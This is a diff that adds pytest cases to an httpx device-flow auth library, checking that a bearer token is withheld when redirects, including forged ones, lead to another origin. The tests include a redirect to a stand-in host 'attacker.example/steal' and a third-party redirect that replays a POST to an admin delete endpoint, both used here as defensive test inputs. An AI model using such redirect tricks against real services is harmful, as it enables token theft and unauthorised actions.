@@ -457,3 +457,42 @@ async def test_followed_upgrade_to_https_leaves_the_token_behind(
     async with httpx.AsyncClient(auth=auth, transport=httpx.MockTransport(servers)) as http:
         await http.get("http://127.0.0.1/to?url=https://127.0.0.1/landing")
     assert [BEARER, None] == [header for _, header in servers.seen]
+
+
+async def test_a_first_request_in_cleartext_cannot_let_a_redirect_choose_the_origin(
+    offline: DeviceFlowClient,
+) -> None:
+    """A first request in cleartext carries no token, and binds the https origin of its host:
+    a redirect answering it (forged on the way) to another host gets nothing, and neither does
+    its upgrade to https (the hops after one without the token go without it); the app's own
+    https requests to the host get it."""
+    servers = Servers()
+    auth = DeviceFlowAuth(offline, follow_redirects=True)
+    async with httpx.AsyncClient(auth=auth, transport=httpx.MockTransport(servers)) as http:
+        await http.get("http://api.example.com/to?url=https://attacker.example/steal")
+        await http.get("https://api.example.com/a")
+    assert [None, None, BEARER] == [header for _, header in servers.seen]
+    assert "https://attacker.example/steal" == servers.seen[1][0]
+
+    upgraded = Servers()
+    auth = DeviceFlowAuth(offline, follow_redirects=True)
+    async with httpx.AsyncClient(auth=auth, transport=httpx.MockTransport(upgraded)) as http:
+        await http.get("http://api.example.com/to?url=https://api.example.com/landing")
+        await http.get("https://api.example.com/b")
+    assert [None, None, BEARER] == [header for _, header in upgraded.seen]
+
+
+async def test_a_redirect_chain_that_left_the_origin_does_not_bring_the_token_back(
+    offline: DeviceFlowClient,
+) -> None:
+    """Once a hop went without the token, the hops after it do too: another origin's redirect
+    to the API (say a 307 that replays a POST) is that origin's request, not the app's."""
+    servers = Servers()
+    auth = DeviceFlowAuth(offline, follow_redirects=True)
+    async with httpx.AsyncClient(auth=auth, transport=httpx.MockTransport(servers)) as http:
+        await http.get("https://api.example.com/a")
+        await http.post(
+            "https://third.example/to?url=https://api.example.com/admin/delete", content=b"x"
+        )
+    assert [BEARER, None, None] == [header for _, header in servers.seen]
+    assert "https://api.example.com/admin/delete" == servers.seen[-1][0]
